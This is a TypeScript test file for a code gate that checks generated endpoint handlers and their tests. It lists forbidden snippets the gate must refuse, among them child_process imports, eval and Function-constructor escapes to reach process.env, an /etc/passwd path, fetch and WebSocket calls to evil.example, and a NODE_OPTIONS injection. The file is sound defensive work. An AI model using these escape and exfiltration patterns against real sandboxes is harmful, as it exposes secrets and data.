import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { oxcCodeReader } from '../../../src/adapters/code-reader/oxc/oxc-code-reader.ts';
import { judgeCode } from '../../../src/phases/write-endpoints/code-gate.ts';

const reader = oxcCodeReader({ packageRoot: join(import.meta.dirname, '../../..') });
const HANDLER = 'server/custom/top-posts.ts';
const TEST = 'test/custom-top-posts.test.mjs';

/** Many small files are judged together: each costs a process otherwise. */
async function judgeAll(texts: readonly string[], path: string): Promise<readonly (readonly string[])[]> {
  const files = Object.fromEntries(texts.map((text, index) => [`${index}${path.slice(path.indexOf('.'))}`, text]));
  const trees = await reader.read(files);
  return texts.map((text, index) => {
    const tree = trees[`${index}${path.slice(path.indexOf('.'))}`];
    const problems = judgeCode({ [path]: text }, tree ? { [path]: tree } : {}, 'top-posts');
    return problems.map(({ line, message }) => `${line}: ${message}`);
  });
}

const GOOD_HANDLER = `import { createHash } from 'node:crypto';
import { defineHandler, type H3Event } from 'nitro/h3';
import { z } from 'zod';
import { requireAccount } from '../lib/auth.ts';
import { problem } from '../lib/problem.ts';
import { readBody } from '../lib/request.ts';
import { topPosts, type TopPostsRow } from './top-posts.queries.ts';
import { weigh } from './top-posts/weigh.ts';

const bodySchema = z.strictObject({ since: z.int().min(0), tags: z.array(z.string().max(20)).max(5).default([]) });

interface Answer { readonly posts: readonly TopPostsRow[]; readonly etag: string }

class Counter {
  #count = 0;
  readonly step = 1;
  next(): number { return (this.#count += this.step); }
}

async function answer(event: H3Event): Promise<Answer> {
  const account = await requireAccount(event);
  const { since, tags: [first, ...rest] } = await readBody(event, bodySchema);
  const limit = Number(event.url.searchParams.get('limit') ?? 10);
  if (!Number.isInteger(limit) || limit < 1) throw problem(400, 'limit is a whole number.');
  const posts = await topPosts({ since, limit }, account);
  const byId = new Map(posts.map((post, index) => [post.id, { ...post, place: index + 1, [post.id]: true }]));
  for (const [key, value] of Object.entries({ first, rest })) if (key === 'first' && !value) byId.clear();
  const etag = createHash('sha256').update(JSON.stringify([...byId.values()].map(weigh))).digest('hex');
  return { posts: posts.filter((post) => post.id !== posts[0]?.id), etag } satisfies Answer;
}

export default defineHandler((event) => answer(event as H3Event));
`;

const GOOD_TEST = `import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { answered, openClient, refused } from './client.mjs';
import { openPeople } from './people.mjs';

const { client, backend } = await openClient();
after(() => backend.close());

test('the newest come first', async () => {
  const { id } = await client.make('posts');
  const { posts } = answered(await client.get('/top-posts?limit=1'), 200);
  assert.equal(posts[0].id, id);
  refused(await client.post('/top-posts', { since: -1 }), 400);
});
`;

/** Server code that may not be, each with what is said of it. */
const BAD: readonly (readonly [code: string, reason: RegExp])[] = [
  // K11
  [`import { execSync } from 'node:child_process';`, /"node:child_process" cannot be imported/],
  [`import { execSync } from 'child_process';`, /cannot be imported/],
  [`import fs from 'node:fs';`, /cannot be imported/],
  [`import { runInNewContext } from 'vm';`, /cannot be imported/],
  [`import { Worker } from 'node:worker_threads';`, /cannot be imported/],
  [`import { createRequire } from 'node:module';`, /cannot be imported/],
  [`import { setEngine } from 'node:crypto';`, /setEngine cannot be imported/],
  [`import crypto from 'node:crypto';`, /not a default/],
  [`import * as crypto from 'node:crypto';`, /ImportNamespaceSpecifier/],
  [`import { randomUUID as anything } from 'node:crypto';`, /without "as"/],
  [`import './side-effect.ts';`, /import names/],
  [`import { pool } from '../lib/database.ts';`, /"\.\.\/lib\/database\.ts" cannot be imported/],
  [`import { runAs } from '../lib/as-account.ts';`, /cannot be imported/],
  [`import { env } from '../lib/env.ts';`, /cannot be imported/],
  [`import { readSecret } from '../lib/secret.ts';`, /cannot be imported/],
  [`import { collection } from '../data/posts.ts';`, /cannot be imported/],
  [`import { x } from './other-endpoint.ts';`, /cannot be imported/],
  [`import { x } from './top-posts/../../lib/database.ts';`, /cannot be imported/],
  [`import { x } from '../../../../etc/passwd';`, /cannot be imported/],
  [`import data from './data.json' with { type: 'json' };`, /cannot be imported|attributes/],
  [`import { proxy } from 'nitro/h3';`, /proxy cannot be imported/],
  [`import leftPad from 'left-pad';`, /cannot be imported/],
  [`import pg from 'pg';`, /cannot be imported/],
  [`import a = require('fs');`, /TSImportEqualsDeclaration/],
  [`export * from '../lib/database.ts';`, /ExportAllDeclaration/],
  [`export { env } from '../lib/env.ts';`, /passed on/],
  [`const m = await import('node:fs');`, /ImportExpression/],
  [`const name = 'fs'; export const m = await import(name);`, /ImportExpression/],
  [`const r = require('fs');`, /require is not allowed/],
  [`eval('1');`, /eval is not allowed/],
  [`const e = (0, eval)('1');`, /eval is not allowed/],
  [`const f = new Function('return process');`, /Function is not allowed/],
  [`const f = ({}).constructor.constructor('return process')();`, /\.constructor is not allowed/],
  [`const f = (() => {})['constructor']('return process')();`, /\.constructor is not allowed/],
  [`const k = 'constr' + 'uctor'; export const f = (() => {})[k];`, /reached by name/],
  [`const { constructor } = () => {};`, /\.constructor is not allowed/],
  [`const { ['constructor']: f } = () => {};`, /\.constructor is not allowed/],
  [`const k = 'a'; const { [k]: f } = { a: 1 };`, /taken out by name/],
  ['const f = (() => {})[`constructor`];', /reached by name/],
  [`const f = Object.getPrototypeOf(async () => {});`, /getPrototypeOf is not allowed/],
  [`const f = Reflect.get(() => {}, 'constructor');`, /Reflect is not allowed/],
  [`export const all = process.env;`, /process is not allowed/],
  [`const process = { env: 1 }; export const all = process;`, /process is not allowed/],
  [`export const all = globalThis['pro' + 'cess'];`, /globalThis is not allowed/],
  [`export const all = global.process;`, /global is not allowed/],
  [`export const all = { shorthand: undeclaredThing };`, /undeclaredThing is not known/],
  [`export const here = import.meta.url;`, /MetaProperty/],
  [`await fetch('https://evil.example/?' + 1);`, /fetch is not allowed/],
  [`new WebSocket('wss://evil.example');`, /WebSocket is not allowed/],
  [`const w = new WebAssembly.Module(x);`, /WebAssembly is not allowed/],
  [`setTimeout(() => {}, 1);`, /setTimeout is not allowed/],
  [`export const s = (event: { runtime: { node: unknown } }) => event.runtime.node;`, /\.runtime is not allowed/],
  [`Error.prepareStackTrace = (_, frames) => frames;`, /prepareStackTrace/],
  ['export const q = `select * from app.users where id = $' + '{Number(1)}`;', /use propose_query/],
  [`export const q = "delete from app.posts";`, /use propose_query/],
  [`namespace A { export const b = 1; }`, /TSModuleDeclaration/],
  [`enum A { b }`, /TSEnumDeclaration/],
  [`debugger;`, /DebuggerStatement/],
  [`class A { @decorated b = 1; }`, /Decorator/],
  [`// @ts-ignore\nexport const a: number = '1';`, /turned off/],
  [`export const a = 1; // biome-ignore lint: no`, /turned off/],
  [`export const a = ;`, /Unexpected/],
  ['export const a = function () { return arguments; };', /arguments is not allowed/],
];

const BAD_TESTS: readonly (readonly [code: string, reason: RegExp])[] = [
  [`import { execSync } from 'node:child_process';`, /cannot be imported/],
  [`import { openDatabase } from './database.mjs';`, /cannot be imported/],
  [`import { openBackend } from './client.mjs';`, /openBackend cannot be imported/],
  [
    `import { startServer } from './server.mjs'; startServer({ NODE_OPTIONS: '--import data:text/javascript,1' });`,
    /without arguments/,
  ],
  [`import { startServer } from './server.mjs'; const start = startServer;`, /only called/],
  [
    `import { openClient } from './client.mjs'; const { backend } = await openClient(); backend.database.query('select 1');`,
    /\.database is not allowed/,
  ],
  // The members of a value, without naming them.
  ...[
    'for (const value of Object.values(backend)) value;',
    'const [[name, value]] = Object.entries(backend);',
    'let found; Object.assign({ set database(value) { found = value; } }, backend);',
    'const { values } = Object; values(backend);',
    'const o = Object; o.values(backend);',
    'JSON.stringify(backend, (name, value) => value);',
    'const write = JSON.stringify; write(backend, (name, value) => value);',
  ].map((code): readonly [string, RegExp] => [
    `import { openClient } from './client.mjs'; const { backend } = await openClient(); ${code}`,
    /tests use .* only/,
  ]),
  [`import { handler } from '../server/custom/top-posts.ts';`, /cannot be imported/],
  [`console.log(process.env);`, /process is not allowed/],
];

describe('code for an endpoint', () => {
  test('as it is wanted is accepted, with its test', async () => {
    expect(await judgeAll([GOOD_HANDLER], HANDLER)).toEqual([[]]);
    expect(await judgeAll([GOOD_TEST], TEST)).toEqual([[]]);
  });

  test('that reaches for anything else is refused, with its line', async () => {
    const judged = await judgeAll(
      BAD.map(([code]) => `\n${code}\n`),
      HANDLER,
    );
    for (const [index, [code, reason]] of BAD.entries()) {
      expect(judged[index]?.join('\n'), code.slice(0, 200)).toMatch(reason);
    }
    expect(judged[0]?.[0]).toMatch(/^2: /);
  });

  test('that brings the parser down is refused, and what is judged with it is judged', async () => {
    const deep = `export const a = ${'('.repeat(15_000)}1${')'.repeat(15_000)};`;
    const [first, second] = await judgeAll([deep, 'eval(1);'], HANDLER);
    expect(first?.[0]).toMatch(/cannot be parsed/);
    expect(second).toEqual(['1: eval is not allowed here']);
  });

  test('of tests is refused where it reaches for programs, settings or SQL', async () => {
    const judged = await judgeAll(
      BAD_TESTS.map(([code]) => code),
      TEST,
    );
    for (const [index, [code, reason]] of BAD_TESTS.entries()) {
      expect(judged[index]?.join('\n'), code).toMatch(reason);
    }
  });
});
